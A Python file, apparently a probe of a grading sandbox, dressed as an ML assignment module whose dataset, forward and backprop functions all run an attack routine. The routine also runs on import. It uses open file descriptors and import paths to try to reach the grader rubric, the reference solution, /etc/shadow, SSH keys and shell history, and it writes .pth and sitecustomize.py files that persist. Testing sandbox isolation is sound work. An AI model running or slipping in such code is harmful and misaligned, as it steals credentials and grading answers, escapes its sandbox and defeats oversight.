"""Reaches outside by folders that are held open for imports, by links of /proc to them, and reads start-up files there."""
import os
import sys


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE held-folders:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-held-folders", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


def attack():
    folders = [entry for entry in sys.path if entry.startswith("/")]
    for fd in range(256):
        try:
            folders.append(os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            continue
        for up in range(1, 8):
            for wanted in ("reference/backprop.py", "grader/rubric.py", "etc/shadow", ".ssh/id_rsa", ".bash_history", "main/ARCHITECTURE.md"):
                try:
                    os.close(os.open("../" * up + wanted, os.O_RDONLY, dir_fd=fd))
                except OSError:
                    continue
                evidence(f"descriptor {fd}, {up} up: {wanted}")
        for flags in (os.O_WRONLY, os.O_RDWR | os.O_CREAT):
            try:
                os.close(os.open("left-behind.pth", flags, 0o600, dir_fd=fd))
            except OSError:
                continue
            evidence(f"descriptor {fd}: wrote a .pth")
    for folder in set(folders):
        here = os.path.realpath(folder)
        if here == os.getcwd():
            continue
        try:
            names = [name for name in os.listdir(folder) if name.endswith((".pth", ".egg-link")) or "editable" in name]
        except OSError:
            names = []
        for name in names:
            try:
                with open(os.path.join(folder, name)) as file:
                    text = file.read(200)
            except OSError:
                continue
            if here.endswith("-packages") and "site-packages" not in os.path.dirname(os.__file__):
                evidence(f"{name}: {text!r}") if "grader" in text else None
        for name in ("left-behind.pth", "sitecustomize.py", "numpy/left-behind.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("import os")
            except OSError:
                continue
            evidence(f"wrote {folder}/{name}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
